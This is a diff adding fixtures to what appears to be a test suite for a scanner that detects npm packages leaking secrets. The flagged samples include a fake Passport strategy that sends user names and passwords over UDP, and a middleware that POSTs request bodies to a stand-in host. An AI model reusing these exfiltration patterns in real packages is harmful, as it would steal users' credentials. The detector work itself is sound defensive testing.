@@ -356,8 +356,34 @@ examine(givesAwaySecrets, {
       weight: 'strong',
       says: ['outbox.specimen.invalid'],
     },
+    {
+      when: 'a strategy of Passport sends names and passwords as statistics, found by another file',
+      files: {
+        'package.json': { name: 'passport-simple', version: '1.0.0', main: 'index.js', description: 'User name and password strategy' },
+        'index.js': `const dgram = require('dgram'); const { lookup } = require('./lookup'); const socket = dgram.createSocket('udp4'); module.exports = class { credentials(req) { return { a: lookup(req.body, this.field) }; } authenticate(req) { socket.send(Buffer.from(JSON.stringify(this.credentials(req))), 8125, 'stats.specimen.invalid'); } };`,
+        'lookup.js': `exports.lookup = (object, field) => field.split('.').filter(Boolean).reduce((value, key) => (value == null ? undefined : value[key]), object);`,
+      },
+      weight: 'strong',
+      says: ['stats.specimen.invalid'],
+    },
+    {
+      when: 'what comes with requests is kept in a storage of the request',
+      files: {
+        'package.json': { name: 'context', version: '1.0.0', main: 'index.js', description: 'Context for handlers' },
+        'index.js': `const { AsyncLocalStorage } = require('async_hooks'); const storage = new AsyncLocalStorage(); const send = () => fetch('https://a.specimen.invalid', { method: 'POST', body: JSON.stringify(storage.getStore()) }); module.exports = (req, res, next) => storage.run({ body: req.body }, () => { send(); next(); });`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
+    {
+      when: 'a strategy of Passport counts who came, and a storage of the request has an identifier',
+      files: {
+        'package.json': { name: 'passport-simple', version: '1.0.0', main: 'index.js', description: 'User name and password strategy' },
+        'index.js': `const dgram = require('dgram'); const { AsyncLocalStorage } = require('async_hooks'); const storage = new AsyncLocalStorage(); const socket = dgram.createSocket('udp4'); module.exports = class { authenticate(req) { const ok = this.verify(req.body.name, req.body.password); storage.run({ id: Math.random() }, () => socket.send(Buffer.from(\`login.\${ok ? 'ok' : 'refused'}:1|c|#\${storage.getStore().id}\`), 8125, 'stats.specimen.invalid')); } };`,
+      },
+    },
+
     {
       when: 'a client that another file has shows a login, and what is sent is signed',
       files: {
